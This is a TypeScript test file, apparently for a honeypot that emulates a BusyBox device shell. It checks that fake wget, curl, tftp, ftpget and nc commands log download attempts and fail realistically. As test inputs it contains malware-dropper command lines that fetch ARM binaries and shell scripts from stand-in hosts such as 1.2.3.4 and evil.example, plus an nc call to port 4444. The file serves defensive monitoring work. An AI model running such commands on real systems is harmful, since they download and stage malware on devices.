// wget, curl, tftp, ftpget, nc: each records download.attempt with the URL and output path and
// answers as the device would when the host cannot be reached; no-argument runs print usage.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHarness, runCommand } from '../../testing/command-harness.ts';

test('wget records the URL and output path, then fails to connect like BusyBox', async () => {
  const h = createHarness({ cwd: '/tmp' });
  const r = await h.run(['wget', 'http://1.2.3.4:8080/bins/x.arm7'], { line: 'cd /tmp; wget http://1.2.3.4:8080/bins/x.arm7' });
  assert.equal(r.stderr, "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\nwget: can't connect to remote host (1.2.3.4): Connection refused\n");
  assert.equal(r.status, 1);
  assert.deepEqual(h.emitter.ofType('download.attempt'), [{ tool: 'wget', url: 'http://1.2.3.4:8080/bins/x.arm7', outputPath: '/tmp/x.arm7', line: 'cd /tmp; wget http://1.2.3.4:8080/bins/x.arm7' }]);
  const named = await h.run(['wget', '-O', '/tmp/a', 'http://evil.example/a.sh']);
  assert.equal(named.stderr, "wget: bad address 'evil.example'\n");
  assert.equal(h.emitter.ofType('download.attempt')[1]?.outputPath, '/tmp/a');
  const quiet = await h.run(['wget', '-q', '-O-', 'http://5.6.7.8/x']);
  assert.equal(quiet.stderr, "wget: can't connect to remote host (5.6.7.8): Connection refused\n");
  assert.equal(h.emitter.ofType('download.attempt')[2]?.outputPath, null);
  assert.equal(h.fs.stat('/tmp/x.arm7'), null);
});

test('wget and tftp without arguments print their usage, not not-found', async () => {
  const wget = await runCommand(['wget']);
  assert.match(wget.stderr, /\n\nUsage: wget \[-cqS\]/);
  assert.equal(wget.status, 1);
  const tftp = await runCommand(['tftp']);
  assert.match(tftp.stderr, /\n\nUsage: tftp \[OPTIONS\] HOST \[PORT\]/);
});

test('tftp records BusyBox and tftp-hpa style requests', async () => {
  const h = createHarness({ cwd: '/tmp' });
  const r = await h.run(['tftp', '-g', '-r', 'tftp1.sh', '-l', 'local.sh', '1.2.3.4']);
  assert.equal(r.stderr, 'tftp: timeout\n');
  const hpa = await h.run(['tftp', '1.2.3.4', '-c', 'get', 'tftp2.sh']);
  assert.match(hpa.stderr, /^tftp: invalid option -- 'c'\n/);
  assert.deepEqual(
    h.emitter.ofType('download.attempt').map((e) => [e.url, e.outputPath]),
    [['tftp://1.2.3.4/tftp1.sh', '/tmp/local.sh'], ['tftp://1.2.3.4/tftp2.sh', '/tmp/tftp2.sh']],
  );
});

test('ftpget, curl and nc record their targets', async () => {
  const h = createHarness({ cwd: '/tmp' });
  assert.equal((await h.run(['ftpget', '-u', 'anonymous', '-p', 'x', '1.2.3.4', 'f.sh', 'pub/f.sh'])).stderr, "ftpget: can't connect to remote host (1.2.3.4): Connection refused\n");
  const curl = await h.run(['curl', '-o', 'c.sh', 'http://1.2.3.4/c.sh']);
  assert.equal(curl.stderr, 'curl: (7) Failed to connect to 1.2.3.4 port 80: Connection refused\n');
  assert.equal(curl.status, 7);
  assert.equal((await h.run(['nc', '1.2.3.4', '4444'])).stderr, "nc: can't connect to remote host (1.2.3.4): Connection refused\n");
  assert.deepEqual(
    h.emitter.ofType('download.attempt').map((e) => [e.tool, e.url, e.outputPath]),
    [['ftpget', 'ftp://anonymous@1.2.3.4/pub/f.sh', '/tmp/f.sh'], ['curl', 'http://1.2.3.4/c.sh', '/tmp/c.sh'], ['nc', '1.2.3.4:4444', null]],
  );
});
